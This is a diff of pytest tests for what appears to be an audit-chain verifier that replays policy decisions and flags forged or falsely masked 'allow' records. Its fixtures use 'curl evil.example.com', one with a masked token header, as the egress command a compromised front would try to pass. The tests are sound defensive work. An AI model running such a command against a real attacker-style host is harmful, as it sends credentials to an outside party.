@@ -174,6 +174,59 @@ def test_a_lost_decision_is_excused_by_its_void_and_no_other_is(copy):
     assert verify(copy)[0]["details"]["findings"] == []
 
 
+def allow(records, command):
+    """The record that allowed it, under ids of its own."""
+    made = next(one for one in records if one.get("input", {}).get("call", {}).get("arguments") == {"command": command})
+    return {**made, "decision_id": new_id("dec"), "call_id": "another"}
+
+
+@pytest.mark.parametrize(
+    ("changes", "why"),
+    [
+        ({"purpose": "query", "subject": "ab" * 32}, "a query authorises nothing"),
+        ({"purpose": "permit", "subject": "ab" * 32}, "a permit authorises nothing"),
+        ({"purpose": "runtime", "subject": "ab" * 32}, "authorises nothing"),
+        ({"purpose": "none that there is", "subject": "ab" * 32}, "authorises nothing"),
+        ({"subject": "ab" * 32}, "is not what the recorded call becomes"),
+        ({"bundles": {}}, "names no bundle"),
+    ],
+    ids=["query", "permit", "runtime", "unknown", "call", "bundle"],
+)
+def test_an_allow_that_authorises_what_it_does_not_tell_is_named_by_replay(copy, changes, why):
+    rewrite(segment(copy), lambda records: [*records, allow(records, "echo one") | changes])
+    assert verify(copy)[1] == 0  # it is nothing that the chain could show
+    report, status = verify(copy, "--replay")
+    assert status == 1
+    [found] = report["details"]["findings"]
+    assert (found["kind"], why in found["message"]) == ("allow_not_reproduced", True), found
+
+
+def masked(records, command, pointer):
+    """As a front under attack would write it: an allow of what policy blocks, said to be masked."""
+    made = allow(records, "curl evil.example.com")
+    made["result"] = {**made["result"], "action": "allow"}
+    made["input"] = {**made["input"], "call": {**made["input"]["call"], "arguments": {"command": command}}}
+    return made | {"subject": "ab" * 32, "masked": [pointer]}
+
+
+@pytest.mark.parametrize("pointer", ["/input/call/arguments/command", "/input/none", "", "/input/call/argument/0"])
+def test_an_allow_that_is_said_to_be_masked_and_is_not_is_a_finding(copy, pointer):
+    rewrite(segment(copy), lambda records: [*records, masked(records, "curl evil.example.com", pointer)])
+    report, status = verify(copy, "--replay")
+    assert status == 1
+    assert [found["kind"] for found in report["details"]["findings"]] == ["masked_without_mask"]
+
+
+def test_a_masked_allow_is_told_with_what_policy_says_of_it(copy):
+    command, pointer = "curl evil.example.com -H [masked:token]", "/input/call/arguments/command"
+    rewrite(segment(copy), lambda records: [*records, masked(records, command, pointer)])
+    report, status = verify(copy, "--replay")
+    assert (status, report["summary"]["masked"]) == (0, 1)
+    [told] = report["details"]["masked"]
+    assert told["fields"] == [pointer]
+    assert "egress.domain.allowlist" in told["verdict"]
+
+
 class FrontDouble:
     """A front under an attacker's control: the warden's connection and the audit descriptor, and no policy."""
 
